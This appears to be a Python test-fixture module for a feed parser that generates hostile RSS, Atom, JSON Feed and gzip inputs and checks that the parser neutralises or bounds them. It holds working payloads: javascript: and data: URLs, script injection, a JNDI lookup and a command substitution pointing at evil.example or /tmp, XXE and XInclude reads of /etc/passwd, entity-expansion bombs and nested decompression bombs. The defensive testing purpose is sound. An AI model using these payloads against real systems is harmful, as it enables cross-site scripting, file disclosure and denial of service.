"""Feeds, XML and JSON: entities, addresses, markup in titles, lies about encoding and date, packed bodies."""

import gzip
import io
import json
import zlib
from functools import partial

from tests.faults.hostile.prose import Case, atom, constant, escaped, item, page, paragraph, rss, sentence

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:x", "file:///etc/passwd",
    "https://user:pw@feed.example/", 'https://feed.example/"onmouseover=alert(1) x="',
    "https://feed.example/)[x](javascript:alert(1)", "//evil.example/x", "https://xn--pple-43d.example/",
    "https://feed.example/" + "a" * 70_000, "http://[::1]/", "http://0x7f.1/",
    "https://feed.example/\u202egnp.exe", "",
]  # fmt: skip
SCHEMES = ("javascript:", "vbscript:", "data:text", "file:///", "onmouseover=")


def addressed(address, chance):
    return atom(
        "<entry><title>Entry</title><id>urn:e1</id><updated>2026-03-02T08:00:00Z</updated>"
        f'<link href="{escaped(address)}"/><summary>{paragraph(chance)}</summary></entry>'
    )


MARKED = [
    "x](javascript:alert(1))", "x](https://evil.example) [y", "![p](https://evil.example/p.gif)",
    "<script>alert(1)</script>", "# Heading takeover", "1. list\n2. list", "`code` ``` fence", "***bold***",
    "| a | b |\n|---|---|", "[ref]: javascript:alert(1)", "\\](javascript:alert(1))", "<https://evil.example>",
    "&lt;img src=x onerror=alert(1)&gt;", "[^1]: footnote", "---\ntitle: yaml\n---", "$(touch /tmp/pwned)",
    "${jndi:ldap://evil.example/a}", '=HYPERLINK("https://evil.example")', "%n%n%s", "{0.__class__}",
]  # fmt: skip
MARKUP = ("](javascript:", "](https://evil.example", "\n# Heading takeover", "<script")


def marked(words, chance):
    title, text = escaped(words), escaped(f"{words} {paragraph(chance)}")
    return rss([item(chance, 1, title=title, text=text)])


TITLES = [
    "Subject\r\nBcc: victim@example.org", "Subject\nX-Injected: 1", "Subject\u2028Bcc: v@example.org",
    "=?utf-8?q?Subject=0d=0aBcc:_v@example.org?=", "A" * 100_000, "\0", "\ud83d",
]  # fmt: skip


def titled(title, chance):
    entry = {"id": "1", "url": "https://feed.example/1", "title": title, "content_text": paragraph(chance)}
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": title, "items": [entry]})


STRINGS = [
    *(
        Case(f"feed-url/{at:02d}", "feed", "clean", partial(addressed, each), "xml", SCHEMES, "markup")
        for at, each in enumerate(ADDRESSES)
    ),
    *(
        Case(f"markdown/{at:02d}", "feed", "clean", partial(marked, each), "xml", MARKUP, "markup")
        for at, each in enumerate(MARKED)
    ),
    *(
        Case(
            f"mail-header/{at:02d}",
            "jsonfeed",
            "clean",
            partial(titled, each),
            "json",
            ("\nBcc:", "\nX-Injected:"),
        )
        for at, each in enumerate(TITLES)
    ),
]


def xml(name, expect, make, **limits):
    return Case(f"xml/{name}", "feed", expect, make, "xml", **limits)


def with_entities(declared, used):
    return lambda chance: rss([item(chance, 1, title=used)], doctype=f"<!DOCTYPE rss [{declared}]>")


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 11)
)
PARAMETERS = f'<!ENTITY % a "x"><!ENTITY % b "{"%a;" * 10}">' + "".join(
    f'<!ENTITY % c{number} "{"%b;" * 10}">' for number in range(50)
)
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
XML = [
    xml("billion-laughs", "bound", with_entities(LAUGHS, "&a10;"), seconds=5, mib=300),
    xml(
        "quadratic-blowup",
        "bound",
        with_entities(f'<!ENTITY a "{"A" * 100_000}">', "&a;" * 20_000),
        seconds=5,
        mib=300,
    ),
    xml("parameter-entity-bomb", "bound", with_entities(PARAMETERS, "t"), seconds=5, mib=300),
    xml("entity-loop", "bound", with_entities('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"), seconds=5),
    xml(
        "external-entity-file",
        "clean",
        with_entities('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
        forbid=("root:x:0:0", "root:*:0:0"),
    ),
    xml("external-entity-http", "bound", with_entities('<!ENTITY x SYSTEM "http://127.0.0.1:9/xxe">', "&x;")),
    xml(
        "external-dtd",
        "bound",
        lambda chance: rss([item(chance, 1)], doctype='<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/evil.dtd">'),
    ),
    # The include is all the item holds, so that without it there is nothing to read.
    xml("xinclude", "skip", lambda chance: rss([item(chance, 1, text=INCLUDE)]), forbid=("root:x:0:0",)),
    xml(
        "deep-nesting-100k",
        "bound",
        lambda chance: rss([item(chance, 1, text="<a>" * 100_000 + "t" + "</a>" * 100_000)]),
        mib=800,
    ),
    xml("huge-attribute", "bound", lambda chance: rss([item(chance, 1, text=f'<a b="{"x" * 3_000_000}"/>')])),
    # An unclosed comment of 2 MB is parsed over and over where it is fed in small pieces (CVE-2023-52425).
    xml(
        "large-token-dribble",
        "bound",
        lambda chance: rss([item(chance, 1)]).replace("<channel>", "<channel><!-- " + "a" * 2_000_000),
    ),
]


def feed(name, expect, make, **limits):
    return Case(f"feed/{name}", "feed", expect, make, "xml", **limits)


def items(count, **given):
    return lambda chance: rss([item(chance, number, **given) for number in range(count)])


def without_identity(chance):
    entries = (
        f"<item><title>T{n}</title><description>{paragraph(chance)}</description></item>" for n in range(10)
    )
    return rss(list(entries))


FEEDS = [
    feed("truncated", "ok", lambda chance: items(20)(chance)[:9_000]),
    feed("html-instead", "skip", lambda chance: page(chance, title="Please sign in")),
    feed("empty", "skip", constant(b"")),
    feed("no-items", "empty", items(0)),
    feed(
        "leading-junk",
        "ok",
        lambda chance: "\n\n\ufeff  warning: php notice\n" + rss([item(chance, 1), item(chance, 2)]),
    ),
    feed(
        "undeclared-entity",
        "ok",
        lambda chance: rss([item(chance, 1, title="Caf&eacute; &nbsp; &bogus; open")]),
    ),
    feed(
        "encoding-lies",
        "ok",
        lambda chance: rss([item(chance, 1, title="Café – “reopened”")]).encode("cp1252", "replace"),
    ),
    feed(
        "utf16-no-bom",
        "bound",
        lambda chance: rss([item(chance, 1)], prolog='<?xml version="1.0" encoding="utf-16"?>').encode(
            "utf-16-le"
        ),
    ),
    feed("same-guid", "ok", items(50, guid="urn:same")),
    feed("no-guid-no-link", "ok", without_identity),
    feed(
        "guid-changes-every-fetch",
        "ok",
        lambda chance: rss(
            [item(chance, 1, title="Stable headline about the ferry", guid=f"urn:{chance.getrandbits(64):x}")]
        ),
    ),
    feed(
        "50k-items",
        "bound",
        lambda chance: rss([item(chance, number, text=sentence(chance)) for number in range(50_000)]),
        seconds=60,
        mib=1500,
        tier="full",
    ),
    feed("title-1mb", "bound", lambda chance: rss([item(chance, 1, title="long " * 200_000)])),
]
DATES = [
    "Mon, 31 Feb 2026 25:61:00 GMT", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT",
    "Mon, 02 Mar 2126 08:00:00 GMT", "yesterday", "", "0000-00-00T00:00:00Z", "2026-03-29T02:30:00",
    "2026-10-25T02:30:00+02:00", "9" * 400, "Tue, 29 Feb 2028 23:59:60 +2500",
]  # fmt: skip


def dated(date, chance):
    return rss([item(chance, 1, date=date), item(chance, 2)])


FEEDS += [
    Case(f"feed-date/{at:02d}", "feed", "ok", partial(dated, each), "xml") for at, each in enumerate(DATES)
]

VERSION = '"version":"https://jsonfeed.org/version/1.1"'
BROKEN = [
    "", "{", "[]", "null", f"{{{VERSION}}}", f'{{{VERSION},"items":{{}}}}', f'{{{VERSION},"items":[null,1,"x",{{}}]}}',
    '{"version":1e999,"items":[]}', "[" * 100_000, '{"a":' * 50_000,
    f'{{{VERSION},"title":"\\ud83d","items":[{{"id":1,"title":"\\ud800","content_text":"\\udfff x."}}]}}',
    f'{{{VERSION},"items":[{{"id":{"9" * 5000}}}]}}',
    f'{{{VERSION},"items":[{{"id":"1","content_text":"A.","id":"2"}}]}}',
]  # fmt: skip
JSON = [
    Case(f"jsonfeed/{at:02d}", "jsonfeed", "bound", constant(each), "json", seconds=5)
    for at, each in enumerate(BROKEN)
]


def packed(raw):
    """gzip without a clock, so that the bytes are the same every time."""
    stream = io.BytesIO()
    with gzip.GzipFile(fileobj=stream, mode="wb", mtime=0, compresslevel=9) as file:
        file.write(raw)
    return stream.getvalue()


def nested_bomb(_):
    deflate, out, zeros = zlib.compressobj(9, zlib.DEFLATED, 31), bytearray(), b"\0" * 10_000_000
    for _ in range(1000):
        out += deflate.compress(zeros)
    return packed(bytes(out + deflate.flush()))


GZIP = [
    Case(f"gzip/{name}", "http-body", "skip", make, "gz", **limits)
    for name, make, limits in (
        ("bomb-100mb", lambda _: packed(b"<rss>" + b" " * 100_000_000), {"seconds": 5, "mib": 300}),
        ("bomb-10gb-nested", nested_bomb, {"seconds": 5, "mib": 300, "tier": "full"}),
        ("truncated", lambda chance: packed(items(30)(chance).encode())[:-40], {}),
        ("garbage", lambda chance: b"\x1f\x8b" + bytes(chance.getrandbits(8) for _ in range(2000)), {}),
    )
]

CASES = [*STRINGS, *XML, *FEEDS, *JSON, *GZIP]
